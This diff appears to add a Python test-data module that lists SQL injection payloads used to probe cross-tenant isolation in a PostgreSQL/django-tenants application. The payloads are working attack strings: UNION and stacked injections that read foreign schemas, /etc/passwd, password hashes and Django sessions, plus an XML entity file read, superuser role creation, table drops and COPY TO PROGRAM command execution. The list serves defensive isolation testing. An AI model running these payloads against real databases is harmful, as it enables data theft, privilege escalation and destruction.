@@ -1,0 +1,84 @@
+"""Ways out of one tenant that an injected query has tried; {f} is the foreign schema, {r} its role.
+
+Sources: PostgreSQL's own documentation of functions that run queries, change the role or reach
+the disk, and the ways measured to cross stock django-tenants.
+"""
+
+UNION = "' UNION SELECT {} -- "
+STACKED = "'; {} -- "
+
+_VALUES = [
+    "(SELECT secret FROM {f}.canary)",
+    "(SELECT string_agg(c::text, '') FROM {f}.canary c)",
+    "(SELECT CAST(secret AS integer)::text FROM {f}.canary)",
+    "set_config('role', '{r}', false)",
+    "set_config('role', '{r}', false) || query_to_xml('select * from {f}.canary', true, false, '')",
+    "set_config('session_authorization', '{r}', false)",
+    "set_config('search_path', '{f}', false)",
+    "set_config('row_security', 'off', false)",
+    "query_to_xml('select * from {f}.canary', true, false, '')::text",
+    "query_to_xml_and_xmlschema('select * from {f}.canary', true, false, '')::text",
+    "table_to_xml('{f}.canary', true, false, '')::text",
+    "schema_to_xml('{f}', true, false, '')::text",
+    "database_to_xml(true, false, '')::text",
+    "(SELECT string_agg(word, '') FROM ts_stat('select to_tsvector(secret) from {f}.canary'))",
+    "(SELECT secret FROM dblink('dbname=postgres', 'select 1') AS t(secret text))",
+    "pg_read_file('/etc/passwd')",
+    "encode(pg_read_binary_file('/etc/passwd'), 'escape')",
+    "(SELECT string_agg(name, '') FROM pg_ls_dir('.') AS name)",
+    "(SELECT string_agg(name, '') FROM pg_ls_logdir())",
+    "lo_import('/etc/passwd')::text",
+    "lo_from_bytea(0, 'x')::text",
+    "lo_export(1, '/tmp/kooperacja-attack')::text",
+    "lo_creat(-1)::text",
+    "(SELECT string_agg(rolpassword, '') FROM pg_authid)",
+    "(SELECT string_agg(passwd, '') FROM pg_shadow)",
+    "(SELECT string_agg(most_common_vals::text, '') FROM pg_stats WHERE schemaname = '{f}')",
+    "(SELECT string_agg(stavalues1::text, '') FROM pg_statistic)",
+    "(SELECT string_agg(query, '') FROM pg_stat_activity WHERE pid <> pg_backend_pid())",
+    "(SELECT string_agg(email, '') FROM public.accounts_account)",
+    "(SELECT string_agg(session_data, '') FROM public.django_session)",
+    "(SELECT string_agg(slug, '') FROM public.registry_tenant)",
+    "(SELECT string_agg(value::text, '') FROM public.monitoring_figure)",
+    "(SELECT lanname FROM pg_language WHERE lo_put(1, 0, 'x') IS NULL)",
+    "pg_create_physical_replication_slot('x')::text",
+    "pg_reload_conf()::text",
+    "pg_terminate_backend(pid)::text FROM pg_stat_activity WHERE datname = current_database()",
+    "pg_export_snapshot() || (SELECT secret FROM {f}.canary)",
+    "xmlparse(document '<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>')::text",
+    "(SELECT secret FROM {f}.canary TABLESAMPLE system (100))",
+    "(WITH gone AS (DELETE FROM {f}.canary RETURNING secret) SELECT secret FROM gone)",
+    "has_table_privilege('{r}', '{f}.canary', 'select')::text || (TABLE {f}.canary)",
+]
+
+_STATEMENTS = [
+    "SET ROLE {r}; SELECT secret FROM canary",
+    "RESET ROLE",
+    "SET SESSION AUTHORIZATION {r}",
+    "SET search_path TO {f}",
+    "UPDATE {f}.canary SET secret = 'zmieniono'",
+    "DELETE FROM {f}.canary",
+    "DROP TABLE {f}.canary",
+    "TRUNCATE {f}.canary",
+    "INSERT INTO {f}.canary VALUES ('wstawiono')",
+    "CREATE ROLE intruz SUPERUSER LOGIN",
+    "ALTER ROLE {r} LOGIN",
+    "GRANT {r} TO PUBLIC",
+    "CREATE FUNCTION f() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'select 1::text'",
+    "DO $$ BEGIN EXECUTE 'SET ROLE {r}'; END $$",
+    "COPY (SELECT 1) TO PROGRAM 'touch /tmp/kooperacja-attack'",
+    "COPY {f}.canary TO STDOUT",
+    "CREATE TEMP TABLE t AS SELECT * FROM {f}.canary",
+    "CREATE EXTENSION dblink",
+    "CREATE EXTENSION postgres_fdw",
+    "ROLLBACK; SET ROLE {r}",
+    "COMMIT; SET ROLE {r}",
+    "PREPARE p AS SELECT secret FROM {f}.canary; EXECUTE p",
+    "LISTEN kanal; SET ROLE {r}",
+    "LOCK TABLE {f}.canary",
+]
+
+PAYLOADS = [UNION.format(value) for value in _VALUES]
+PAYLOADS += [STACKED.format(statement) for statement in _STATEMENTS]
+# The same statements when the attacker reaches the beginning of a query, with no stacking needed.
+PAYLOADS += [f"@{statement}" for statement in _STATEMENTS if ";" not in statement]
